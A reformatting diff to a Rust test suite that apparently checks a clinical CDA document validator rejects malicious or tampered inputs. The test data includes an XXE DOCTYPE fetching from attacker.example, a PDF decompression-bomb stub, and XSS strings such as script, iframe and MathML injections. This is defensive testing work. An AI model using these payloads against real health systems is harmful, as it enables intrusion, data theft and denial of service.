@@ -63,7 +63,10 @@ fn roots() -> Vec<Case> {
         refused("CDA-02", edited(r#"xmlns="urn:hl7-org:v3""#, r#"xmlns="urn:hl7-org:v2""#), CONTENT),
         refused(
             "CDA-03",
-            edited("<ClinicalDocument", "<!DOCTYPE x SYSTEM 'http://attacker.example/x.dtd'><ClinicalDocument"),
+            edited(
+                "<ClinicalDocument",
+                "<!DOCTYPE x SYSTEM 'http://attacker.example/x.dtd'><ClinicalDocument",
+            ),
             CONTENT,
         ),
         refused(
@@ -100,7 +103,11 @@ fn headers() -> Vec<Case> {
         refused("CDA-08", edited("</recordTarget>", "</recordTarget><recordTarget/>"), CONTENT),
         refused("CDA-09", synthese(|d| d.edit(ALICE.ins, "270019935110259")), PATIENT),
         refused("CDA-10", edited("19700115", "19700116"), PATIENT),
-        refused("CDA-11", edited(r#"administrativeGenderCode code="F""#, r#"administrativeGenderCode code="M""#), PATIENT),
+        refused(
+            "CDA-11",
+            edited(r#"administrativeGenderCode code="F""#, r#"administrativeGenderCode code="M""#),
+            PATIENT,
+        ),
         refused("CDA-12", edited(alice_oid, r#"root="1.2.250.1.213.1.4.8""#), "XDSUnknownPatientId"),
         refused(
             "CDA-13",
@@ -152,7 +159,10 @@ fn headers() -> Vec<Case> {
             "CDA-21",
             synthese(|d| {
                 let id = format!(r#"<id root="1.2.250.1.71.4.2.1" extension="{AUTHOR}"/>"#);
-                d.edit(&format!("<assignedAuthor>\n      {id}"), "<assignedAuthor>\n      <id nullFlavor=\"UNK\"/>")
+                d.edit(
+                    &format!("<assignedAuthor>\n      {id}"),
+                    "<assignedAuthor>\n      <id nullFlavor=\"UNK\"/>",
+                )
             }),
             CONTENT,
         )
@@ -193,12 +203,15 @@ fn bodies() -> Vec<Case> {
         // What a decoder would inflate a thousand times; here nothing is decoded, so the filter chain need not be real.
         kept("CDA-47", |w| {
             let filters = "/FlateDecode ".repeat(300);
-            let bomb = format!("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter[{filters}]>>stream\nendstream endobj\n%%EOF");
+            let bomb =
+                format!("%PDF-1.5\n1 0 obj<</Type/ObjStm/Filter[{filters}]>>stream\nendstream endobj\n%%EOF");
             w.pdf().binary_body("application/pdf", bomb.as_bytes())
         }),
         refused(
             "CDA-49",
-            pdf(|document| document.binary_body("application/pdf", &[&[b' '; 1020][..], b"%PDF-1.4"].concat())),
+            pdf(|document| {
+                document.binary_body("application/pdf", &[&[b' '; 1020][..], b"%PDF-1.4"].concat())
+            }),
             CONTENT,
         ),
         refused(
@@ -241,7 +254,8 @@ fn three_hundred_mebibytes(w: &World) -> Answer {
 }
 
 fn narratives() -> Vec<Case> {
-    let math = "<math xmlns='http://www.w3.org/1998/Math/MathML'><annotation-xml encoding='text/html'/></math>";
+    let math =
+        "<math xmlns='http://www.w3.org/1998/Math/MathML'><annotation-xml encoding='text/html'/></math>";
     vec![
         refused("CDA-33", narrative("<script>alert(1)</script>"), CONTENT),
         refused("CDA-34", narrative("<iframe src='http://a/'/>"), CONTENT).variant("iframe"),
@@ -255,4 +269,3 @@ fn narratives() -> Vec<Case> {
         refused("CDA-36", narrative(math), CONTENT),
     ]
 }
-
